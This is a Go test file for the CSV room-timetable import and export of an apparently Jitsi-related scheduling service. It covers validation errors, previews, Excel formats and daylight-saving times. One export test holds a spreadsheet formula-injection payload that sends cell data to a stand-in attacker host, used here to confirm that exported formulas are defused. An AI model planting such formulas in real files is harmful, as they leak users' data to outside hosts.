package rooms

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/jitsi-gate/jitsi-gate/internal/store"
)

// timetable is a CSV of n rooms ("Klasse N Mathe"), each with two weekly
// lessons; bad replaces the first data line when not empty.
func timetable(n int, bad string) string {
	var b strings.Builder
	b.WriteString("name,tenant,title,organizers,participants,day,start,end,timezone,valid_from,valid_until,lobby,max_occupants\n")
	for i := 1; i <= n; i++ {
		room := fmt.Sprintf("Klasse %d Mathe", i)
		org := fmt.Sprintf("teacher%d;group:fachschaft-mathe", i)
		b.WriteString(fmt.Sprintf("%s,,Mathe %d,%s,group:class-%d,mon,08:00,08:45,Europe/Berlin,2026-09-01,2027-07-31,yes,30\n", room, i, org, i))
		if i == 1 && bad != "" {
			b.Reset()
			b.WriteString("name,tenant,title,organizers,participants,day,start,end,timezone,valid_from,valid_until,lobby,max_occupants\n")
			b.WriteString(bad + "\n")
		}
		b.WriteString(fmt.Sprintf("%s,,,,,thu,10:00,10:45,,,,,\n", room))
	}
	return b.String()
}

func TestImportBadFirstLineThenFixed(t *testing.T) {
	forEachDriver(t, func(t *testing.T, d *testDB) {
		ctx := context.Background()
		s := newService(t, d.open(t))

		bad := timetable(30, "Klasse 1 Mathe,,Mathe 1,teacher1,group:class-1,mo,08:00,08:45,Europe/Berlin,2026-09-01,2027-07-31,yes,30")
		_, err := s.Import(ctx, strings.NewReader(bad), ImportOptions{CreatedBy: "admin"})
		var ie *ImportError
		if !errors.As(err, &ie) || !errors.Is(err, ErrInvalid) {
			t.Fatalf("Import of a bad file: %v, want *ImportError", err)
		}
		if len(ie.Errors) != 1 || ie.Errors[0].Line != 2 || ie.Errors[0].Column != "day" || !strings.Contains(ie.Errors[0].Message, `unknown day "mo"`) {
			t.Errorf("errors: %+v, want one at line 2, column day", ie.Errors)
		}
		if !strings.Contains(err.Error(), "line 2, column day") || !strings.Contains(err.Error(), "nothing was written") {
			t.Errorf("message: %v", err)
		}
		if list, _ := s.List(ctx, Filter{}); len(list) != 0 {
			t.Fatalf("%d rooms written from a bad file", len(list))
		}

		rep, err := s.Import(ctx, strings.NewReader(timetable(30, "")), ImportOptions{CreatedBy: "admin"})
		if err != nil {
			t.Fatalf("Import of the fixed file: %v", err)
		}
		if !rep.Applied || rep.Created != 30 || rep.Updated != 0 || len(rep.Changes) != 30 {
			t.Errorf("report: applied %v, created %d, updated %d, %d changes", rep.Applied, rep.Created, rep.Updated, len(rep.Changes))
		}
		list, err := s.List(ctx, Filter{})
		if err != nil || len(list) != 30 {
			t.Fatalf("List: %d rooms, %v", len(list), err)
		}
		r, err := s.ByName(ctx, "", "Klasse 7 Mathe")
		if err != nil {
			t.Fatal(err)
		}
		if r.Title != "Mathe 7" || len(r.Weekly) != 2 || !r.Lobby || r.MaxOccupants != 30 || r.CreatedBy != "admin" ||
			!slices.Equal(r.Organizers, []string{"teacher7", "group:fachschaft-mathe"}) || r.ValidUntil != "2027-07-31" {
			t.Errorf("imported room: %+v", r)
		}
		if ch := rep.Changes[6]; ch.Action != ActionCreate || ch.Name != "klasse7mathe" || !slices.Equal(ch.Lines, []int{14, 15}) || ch.ID != r.ID {
			t.Errorf("change of room 7: %+v", ch)
		}

		// The same file again changes nothing.
		rep, err = s.Import(ctx, strings.NewReader(timetable(30, "")), ImportOptions{})
		if err != nil || rep.Unchanged != 30 || rep.Created+rep.Updated != 0 {
			t.Errorf("second import: %+v %v", rep, err)
		}
	})
}

func TestImportPreview(t *testing.T) {
	ctx := context.Background()
	s := newService(t, newTestDB(t, store.DriverSQLite).open(t))
	if _, err := s.Import(ctx, strings.NewReader(timetable(3, "")), ImportOptions{}); err != nil {
		t.Fatal(err)
	}
	before, _ := s.ByName(ctx, "", "Klasse 2 Mathe")
	changed := strings.Replace(timetable(3, ""), "Klasse 2 Mathe,,,,,thu,10:00,10:45", "Klasse 2 Mathe,,,,,fri,10:00,10:45", 1) +
		"Neu,,,,,,,,,,,,\n"
	rep, err := s.Import(ctx, strings.NewReader(changed), ImportOptions{DryRun: true})
	if err != nil {
		t.Fatal(err)
	}
	if rep.Applied || rep.Created != 1 || rep.Updated != 1 || rep.Unchanged != 2 {
		t.Errorf("preview: %+v", rep)
	}
	for _, ch := range rep.Changes {
		switch ch.Name {
		case "klasse2mathe":
			if ch.Action != ActionUpdate || !slices.Equal(ch.Fields, []string{"weekly"}) {
				t.Errorf("change of Klasse 2: %+v", ch)
			}
		case "neu":
			if ch.Action != ActionCreate || !slices.Equal(ch.Lines, []int{8}) {
				t.Errorf("new room: %+v", ch)
			}
		}
	}
	after, _ := s.ByName(ctx, "", "Klasse 2 Mathe")
	if after.Version != before.Version || len(after.Weekly) != 2 || after.Weekly[1].Day != time.Thursday {
		t.Errorf("a preview wrote: %+v", after)
	}
	if _, err := s.ByName(ctx, "", "Neu"); !errors.Is(err, ErrNotFound) {
		t.Errorf("a preview created a room: %v", err)
	}
}

// TestImportProblems: every bad line reported with its line and column,
// all at once.
func TestImportProblems(t *testing.T) {
	ctx := context.Background()
	s := newService(t, newTestDB(t, store.DriverSQLite).open(t))
	tests := []struct {
		name string
		csv  string
		want []LineError // Message: a substring
	}{
		{"empty file", "", []LineError{{Line: 1, Message: "the file is empty"}}},
		{"no name column", "title,day\nx,mon\n", []LineError{{Line: 1, Message: "no name column"}}},
		{"unknown column", "name,dya\nx,mon\n", []LineError{{Line: 1, Column: "dya", Message: `"dya" is not a column`}}},
		{"header only", "name,day\n", []LineError{{Line: 2, Message: "no rooms"}}},
		{"several bad lines", "name,day,start,end,date,max_occupants\n" +
			"a/b,mon,08:00,08:45,,\n" +
			"ok,mon,8,08:45,,\n" +
			"ok2,,,,2026-02-30,\n" +
			"ok3,mon,08:00,08:45,2026-09-01,\n" +
			"ok4,,10:00,11:00,,\n" +
			"ok5,,,,,many\n",
			[]LineError{
				{Line: 2, Column: "name", Message: "not a valid room name"},
				{Line: 3, Column: "start", Message: "invalid time"},
				{Line: 4, Column: "date", Message: "invalid date"},
				{Line: 4, Column: "start", Message: "is required"},
				{Line: 4, Column: "end", Message: "is required"},
				{Line: 5, Column: "date", Message: "not both"},
				{Line: 6, Column: "start", Message: "need a day"},
				{Line: 7, Column: "max_occupants", Message: "not a whole number"},
			}},
		{"lines of a room disagree", "name,title,day,start,end\nm,Mathe,mon,08:00,08:45\nm,Physik,tue,08:00,08:45\n",
			[]LineError{{Line: 3, Column: "title", Message: `differs from line 2 ("Mathe")`}}},
		{"overlap across lines", "name,day,start,end\nm,mon,08:00,08:45\nx,tue,08:00,08:45\nm,mon,08:30,09:15\n",
			[]LineError{{Line: 4, Column: "day", Message: "overlaps"}}},
		{"unknown timezone", "name,timezone,day,start,end\nm,,mon,08:00,08:45\nm,Europe/Berlim,tue,08:00,08:45\n",
			[]LineError{{Line: 3, Column: "timezone", Message: "unknown timezone"}}},
		{"window over midnight without end_date", "name,date,start,end\nm,2026-09-01,22:00,01:00\n",
			[]LineError{{Line: 2, Column: "end", Message: "needs end_date"}}},
		{"broken quote", "name,title\nm,\"Mathe\n", []LineError{{Line: 2, Message: "quote"}}},
		{"not UTF-8", "name,title\nm,Pr\xfcfung\n", []LineError{{Line: 2, Message: "not UTF-8"}}},
		{"password mismatch is not shown", "name,password,day,start,end\nm,geheim1,mon,08:00,08:45\nm,geheim2,tue,08:00,08:45\n",
			[]LineError{{Line: 3, Column: "password", Message: "differs from line 2;"}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := s.Import(ctx, strings.NewReader(tt.csv), ImportOptions{})
			var ie *ImportError
			if !errors.As(err, &ie) {
				t.Fatalf("Import: %v, want *ImportError", err)
			}
			if len(ie.Errors) != len(tt.want) {
				t.Errorf("got %d problems, want %d:\n%v", len(ie.Errors), len(tt.want), err)
			}
			for i, w := range tt.want {
				if i >= len(ie.Errors) {
					break
				}
				g := ie.Errors[i]
				if g.Line != w.Line || g.Column != w.Column || !strings.Contains(g.Message, w.Message) {
					t.Errorf("problem %d = %s, want line %d column %q containing %q", i, g, w.Line, w.Column, w.Message)
				}
			}
			if strings.Contains(err.Error(), "geheim") {
				t.Errorf("a password is in the message: %v", err)
			}
		})
	}
	if list, _ := s.List(ctx, Filter{}); len(list) != 0 {
		t.Errorf("%d rooms written from bad files", len(list))
	}
}

// TestImportExcel: German Excel writes ';', a byte order mark, CRLF and
// "ja"; the header's case and order do not matter.
func TestImportExcel(t *testing.T) {
	ctx := context.Background()
	s := newService(t, newTestDB(t, store.DriverSQLite).open(t))
	file := "\ufeffName;Titel_ignored_no;x\r\n"
	if _, err := s.Import(ctx, strings.NewReader(file), ImportOptions{}); err == nil {
		t.Fatal("unknown columns accepted")
	}
	file = "\ufeffName;Day;Start;End;Lobby;Organizers;Title;\r\n" +
		"Mathe-Übung;Mo;08:00;08:45;;;;\r\n"
	_, err := s.Import(ctx, strings.NewReader(file), ImportOptions{})
	var ie *ImportError
	if !errors.As(err, &ie) || ie.Errors[0].Column != "day" {
		t.Fatalf("German day name: %v", err)
	}
	file = "\ufeffName;Day;Start;End;Lobby;Organizers;Title;\r\n" +
		"Mathe-Übung;Monday;08:00;08:45;ja;\"lehrer1;group:Fachschaft Mathe\";Mathe, Übung;\r\n" +
		";;;;;;;\r\n"
	rep, err := s.Import(ctx, strings.NewReader(file), ImportOptions{})
	if err != nil || rep.Created != 1 {
		t.Fatalf("Import: %+v %v", rep, err)
	}
	r, err := s.ByName(ctx, "", "mathe-übung")
	if err != nil {
		t.Fatal(err)
	}
	if r.Name != "mathe-%c3%bcbung" || !r.Lobby || r.Title != "Mathe, Übung" ||
		!slices.Equal(r.Organizers, []string{"lehrer1", "group:Fachschaft Mathe"}) {
		t.Errorf("room: %+v", r)
	}
}

// TestExportImportIsANoOp: what Export writes, Import reads back as
// "unchanged", in both delimiters; and it writes nothing.
func TestExportImportIsANoOp(t *testing.T) {
	forEachDriver(t, func(t *testing.T, d *testDB) {
		ctx := context.Background()
		s := newService(t, d.open(t), func(o *Options) { o.DefaultTenant = "school-a" })
		specs := []Spec{
			lessonSpec(),
			{Name: "Prüfung, \"Chemie\"", Title: "Prüfung; Chemie \"LK\"", Organizers: []string{"demo:Tina"}, Password: `p;w,"q"`,
				Windows: []WindowSpec{
					{Start: "2026-11-02T08:00:00+01:00", End: "2026-11-02T09:30:00+01:00"},
					{Start: "2026-12-31T22:00:00+01:00", End: "2027-01-01T00:00:00+01:00"},
					{Start: "2027-01-04T20:00:00+01:00", End: "2027-01-06T10:15:00+01:00"},
					{Start: "2026-10-25T01:00:00+02:00", End: "2026-10-25T01:30:00+02:00"},
				}},
			{Name: "Lehrerzimmer", Tenant: "school-b", OpenEarly: "0m"},
			// Cells a spreadsheet would run as formulas.
			{Name: "Formel", Title: `=HYPERLINK("https://evil.example/?"&O2,"x")`, Password: "+49 123"},
			{Name: "Elternabend", Timezone: "America/New_York", OpenEarly: "1h30m", MaxOccupants: 200,
				Weekly:  []SlotSpec{{Day: "wed", Start: "19:00", End: "24:00"}, {Day: "mon", Start: "00:00", End: "01:00"}},
				Windows: []WindowSpec{{Start: "2026-09-09T18:00:00-04:00", End: "2026-09-09T19:00:00-04:00"}}},
		}
		for _, sp := range specs {
			mustCreate(t, s, sp)
		}
		before, err := s.List(ctx, Filter{})
		if err != nil {
			t.Fatal(err)
		}
		for _, opts := range []ExportOptions{{}, {Comma: ';', BOM: true}} {
			var buf bytes.Buffer
			if err := s.Export(ctx, &buf, opts); err != nil {
				t.Fatal(err)
			}
			exported := buf.String()
			if strings.Contains(exported, `,=HYPERLINK`) || strings.Contains(exported, `"=HYPERLINK`) || !strings.Contains(exported, `'=HYPERLINK`) || !strings.Contains(exported, `'+49 123`) {
				t.Errorf("formula cells are not defused:\n%s", exported)
			}
			rep, err := s.Import(ctx, strings.NewReader(exported), ImportOptions{})
			if err != nil {
				t.Fatalf("importing the export (comma %q): %v\n%s", opts.Comma, err, exported)
			}
			if rep.Unchanged != len(specs) || rep.Created+rep.Updated != 0 {
				for _, ch := range rep.Changes {
					t.Logf("%s %s: %v", ch.Action, ch.Name, ch.Fields)
				}
				t.Errorf("comma %q: %d unchanged, %d created, %d updated; want all %d unchanged\n%s",
					opts.Comma, rep.Unchanged, rep.Created, rep.Updated, len(specs), exported)
			}
		}
		after, err := s.List(ctx, Filter{})
		if err != nil {
			t.Fatal(err)
		}
		for i := range before {
			if after[i].Version != before[i].Version {
				t.Errorf("room %s: version %d → %d", before[i].Name, before[i].Version, after[i].Version)
			}
		}

		// The export is readable: one line per slot or window.
		var buf bytes.Buffer
		if err := s.Export(ctx, &buf, ExportOptions{Filter: Filter{Query: "lehrerzimmer"}}); err != nil {
			t.Fatal(err)
		}
		want := "name,tenant,title,organizers,participants,day,date,start,end,end_date,timezone,valid_from,valid_until,lobby,password,max_occupants,open_early\n" +
			"lehrerzimmer,school-b,Lehrerzimmer,,,,,,,,Europe/Berlin,,,false,,,0m\n"
		if buf.String() != want {
			t.Errorf("export:\n%s\nwant:\n%s", buf.String(), want)
		}
	})
}

// TestImportDatesAcrossDaylightSaving: a one-off date's times are read the
// way weekly slots are (RFC 5545): 02:30 on the night clocks go back is
// the first 02:30 (summer time), 02:30 in the spring gap is 03:30.
func TestImportDatesAcrossDaylightSaving(t *testing.T) {
	ctx := context.Background()
	s := newService(t, newTestDB(t, store.DriverSQLite).open(t))
	csv := "name,date,start,end,timezone\n" +
		"autumn,2026-10-25,02:30,04:00,Europe/Berlin\n" +
		"spring,2026-03-08,02:30,04:00,America/New_York\n"
	if _, err := s.Import(ctx, strings.NewReader(csv), ImportOptions{}); err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]string{
		"autumn": "2026-10-25T00:30:00Z", // 02:30+02:00
		"spring": "2026-03-08T07:30:00Z", // 03:30-04:00
	} {
		rm, err := s.ByName(ctx, "", name)
		if err != nil {
			t.Fatal(err)
		}
		if len(rm.Windows) != 1 || rm.Windows[0].Start.UTC().Format(time.RFC3339) != want {
			t.Errorf("%s: windows %v, want the start %s", name, rm.Windows, want)
		}
	}
}
